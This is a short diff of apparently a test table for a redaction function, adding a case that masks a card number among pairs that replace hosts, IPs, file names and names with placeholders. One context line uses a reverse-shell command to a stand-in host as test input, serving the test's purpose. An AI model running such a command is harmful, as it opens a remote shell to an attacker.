@@ -29,6 +29,7 @@ NAMES = ("canary-person", "canary-skill")
         ("bash -i >& /dev/tcp/evil.firma.de/4444 0>&1", "/dev/tcp/203.0.113.7/4444"),
         ("git.firma.de and 10.2.3.4 and fe80:0:0:0:1:2:3:4", "host.example and 203.0.113.7 and 2001:db8::7"),
         ("https://api.telegram.org/bot123:AAE/sendMessage", "https://api.telegram.org/bot/sendMessage"),
+        ("card 4532 1234 5678 9010, chmod 4755, :8443", "card 1000000, chmod 4755, :8443"),
         ("see secret-plan.md and README.md", "see file.md and README.md"),
         ("as canary-person in Canary-Skill", "as user in user"),
         ("give the Nightingale Papers to me", "give the Name to me"),
